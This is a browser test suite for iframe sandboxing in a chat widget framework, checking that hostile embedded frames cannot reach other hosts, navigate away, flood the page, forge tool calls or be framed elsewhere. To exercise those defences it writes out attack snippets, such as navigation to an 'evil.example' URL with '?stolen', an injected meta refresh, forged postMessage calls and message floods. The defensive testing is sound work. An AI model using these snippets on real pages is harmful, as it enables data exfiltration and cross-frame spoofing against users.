"""Frames that attack the page: what they try fails, and the page goes on."""

import json
from typing import Any

import pytest
from playwright.async_api import Browser, expect
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import PlainTextResponse, Response
from starlette.routing import Mount, Route

from tests.browser.frames import HOSTILE, RPC, resource
from tests.browser.frames.pages import asked, logged, press, seen, showing, view, weather
from tests.browser.pages import browsing, composer
from tests.browser.strict import until, violations
from tests.http.serving import listening
from turnstream.http import element_files
from turnstream.http.frame import MAX_MESSAGES, MESSAGES_PER_SECOND
from turnstream.widgets import BasicRoot, Card

BLOCKED = [
    "Content Security Policy",
    "Unsafe attempt to initiate navigation",
    "Blocked opening|Blocked a frame",
    "sandboxed",
]


async def test_a_frame_reaches_nothing_around_it(chromium: Browser) -> None:
    """The browsing context refuses requests to other hosts, and the test fails if one is even tried."""
    read = resource(code=HOSTILE, body="")
    async with showing(chromium, Card(children=[weather(read)]), errors=BLOCKED) as page:
        results: dict[str, Any] = json.loads(await view(page).locator("#results").inner_text())
        assert results == {
            "page": "SecurityError",
            "around": "SecurityError",
            "top": "SecurityError",
            "parent": "SecurityError",
            "popup": "null",
            "fetch": "TypeError",
            "site": "TypeError",
            "socket": "Blocked",
            "picture": "Blocked",
            "script": "Blocked",
            "storage": "SecurityError",
            "cookie": "SecurityError",
            "eval": "EvalError",
            "alert": "undefined",
        }
        # It never initialized, so the page was asked for nothing, not even by what it sent around the bridge.
        assert await page.evaluate("asked") == []
        assert await page.evaluate("location.pathname") == "/"
        assert await violations(page) == []


WAYS_OUT = {
    "address": "location.href = `${evil}?stolen`;",
    "reload": "location.reload();",
    "form": "form.submit();",
    "link": "link.click();",
    "refresh": "document.head.innerHTML += `<meta http-equiv=refresh content='0;url=${evil}'>`;",
}
ELSEWHERE = (
    '<form action="https://evil.example/" id="form"></form><a href="https://evil.example/" id="link">x</a>'
)


@pytest.mark.parametrize("way", WAYS_OUT)
async def test_a_frame_that_navigates_is_removed_before_anything_is_sent(way: str, chromium: Browser) -> None:
    code = f"{RPC} const evil = 'https://evil.example/'; {WAYS_OUT[way]}"
    card = Card(children=[weather(resource(code=code, body=ELSEWHERE))])
    async with showing(chromium, card, errors=[] if way == "reload" else ["Content Security Policy"]) as page:
        assert await logged(page, "frame.stopped") == ["A frame was removed since it has left its document."]
        await expect(page.get_by_text("This part cannot be shown.")).to_be_visible()
        assert await page.evaluate("deep('iframe').length") == 0


FLOODS = {
    "sizes": "send('ui/notifications/size-changed', { height: i % 900 }, false);",
    "calls": "send('tools/call', { name: 'refresh' });",
    "page": "top.postMessage({ jsonrpc: '2.0', method: 'x' }, '*');",
}


@pytest.mark.parametrize("what", FLOODS)
async def test_a_flood_ends_the_frame_and_not_the_page(what: str, chromium: Browser) -> None:
    read = resource(code=f"{RPC} for (let i = 0; i < 1e5; i++) {FLOODS[what]}", body="<p>Flood")
    async with showing(chromium, Card(children=[weather(read)])) as page:
        assert await logged(page, "frame.stopped") == ["A frame was removed since it sent too many messages."]
        assert await page.evaluate("deep('iframe').length") == 0
        assert await page.evaluate("asked.length") <= 600
        await composer(page).fill("The page goes on")
        await expect(composer(page)).to_have_value("The page goes on")


async def test_a_frame_cannot_speak_for_another(chromium: Browser) -> None:
    """Frames do not find each other, and the page hears of a frame only what comes from its own window."""
    spy = """
      const call = { jsonrpc: '2.0', id: 7, method: 'tools/call', params: { name: 'forged' } };
      top.postMessage(call, '*');
      parent.parent.postMessage(call, '*');
      document.body.append(`${top.length} others`);
    """
    side = weather(resource(code=spy, body=""), id="spy").model_copy(update={"title": "Spy"})
    async with showing(chromium, BasicRoot(children=[weather(resource(), id="first"), side])) as page:
        await expect(view(page, "Spy").get_by_text("0 others")).to_be_visible()
        await seen(page, "result")
        await press(page, "call")
        assert [call["name"] for _, call, _ in await asked(page, 1)] == ["refresh"]


async def test_a_frame_may_use_the_hosts_of_its_policy_alone(chromium: Browser) -> None:
    async def answer(request: Request) -> Response:
        return PlainTextResponse("21 °C", headers={"access-control-allow-origin": "*"})

    code = """
      const ask = async (url) => {
        try {
          return await (await fetch(url)).text();
        } catch ({ name }) {
          return name;
        }
      };
      document.body.append(await ask('HOST/data'), ' and ', await ask('https://evil.example/'));
    """
    async with listening(Starlette(routes=[Route("/data", answer)])) as host:
        ui = json.dumps({"csp": {"connectDomains": [host]}})
        read = resource(code=code.replace("HOST", host), body="", ui=ui)
        card = Card(children=[weather(read)])
        async with showing(chromium, card, also=[host], errors=["Content Security Policy"]) as page:
            await expect(view(page).get_by_text("21 °C and TypeError")).to_be_visible()


async def test_the_document_around_frames_is_empty_and_opaque_by_itself(chromium: Browser) -> None:
    async with showing(chromium, Card(children=[weather(resource())])) as page:
        alone = await page.context.new_page()
        await alone.goto("/chatkit/frame.html?connect=https://evil.example")
        assert await alone.evaluate("[self.origin, document.body.innerText.trim()]") == ["null", ""]
        given = "{ method: 'ui/notifications/sandbox-resource-ready', params: { html: '<p>x' } }"
        await alone.evaluate(f"postMessage({given}, '*')")
        assert await alone.evaluate("document.querySelectorAll('iframe').length") == 0


BARE = """<!doctype html><link rel="icon" href="data:,">
<script>
globalThis.heard = [];
addEventListener('message', ({ data }) => heard.push(data));
const html = `<script>
  parent.postMessage({ method: 'ui/notifications/sandbox-proxy-ready' }, '*');
  addEventListener('message', ({ data }) => {
    for (let i = 0; i < data.count; i++) parent.postMessage({ at: i }, '*');
  });
  parent.postMessage({ text: 'ready' }, '*');
<${'/'}script>`;
globalThis.show = () =>
  frames[0].postMessage({ method: 'ui/notifications/sandbox-resource-ready', params: { html } }, '*');
</script>
<iframe src="/chatkit/frame.html" sandbox="allow-scripts"></iframe>
<iframe sandbox="allow-scripts"
  srcdoc="<script>setInterval(() => parent.frames[0].postMessage({ text: 'forged' }, '*'), 10)</script>">
</iframe>"""


async def test_the_document_around_frames_passes_on_what_it_may_and_no_flood(chromium: Browser) -> None:
    """A page without the element, so that nothing else can stop what comes."""

    async def bare(request: Request) -> Response:
        return Response(BARE, media_type="text/html")

    app = Starlette(routes=[Route("/", bare), Mount("/chatkit", element_files())])
    async with listening(app) as url, browsing(chromium, url) as context:
        page = await context.new_page()
        await page.goto("/")
        await until(page, "() => heard.length > 0")
        await page.evaluate("show()")
        await until(page, "() => heard.some(({ text }) => text === 'ready')")
        ready: dict[str, Any] = {
            "jsonrpc": "2.0",
            "method": "ui/notifications/sandbox-proxy-ready",
            "params": {},
        }
        assert await page.evaluate("heard") == [ready, {"text": "ready"}]
        await page.evaluate("frames[0].postMessage({ count: 2000 }, '*')")
        await until(page, "() => heard.some(({ method }) => method?.endsWith('sandbox-stopped'))")
        heard = await page.evaluate("heard")
        assert heard[-1]["params"] == {"reason": "flood"}
        # Two were counted before: `ready`, and the reserved one.
        assert MAX_MESSAGES - 2 <= len(heard) - 3 <= MAX_MESSAGES + MESSAGES_PER_SECOND


async def test_a_page_of_another_origin_cannot_show_it(chromium: Browser) -> None:
    async with showing(chromium, Card(children=[weather(resource())]), errors=["frame-ancestors"]) as page:
        html = f'<!doctype html><iframe src="{page.url}chatkit/frame.html"></iframe>'

        async def other(request: Request) -> Response:
            return Response(html, media_type="text/html")

        async with listening(Starlette(routes=[Route("/", other)])) as url:
            await page.context.route(f"{url}/**", lambda route: route.continue_())
            attacker = await page.context.new_page()
            heard = "addEventListener('message', () => (globalThis.heard = true))"
            await attacker.add_init_script(f"{heard}")
            await attacker.goto(url)
            await until(attacker, "() => document.readyState === 'complete'")
            assert await attacker.evaluate("globalThis.heard") is None
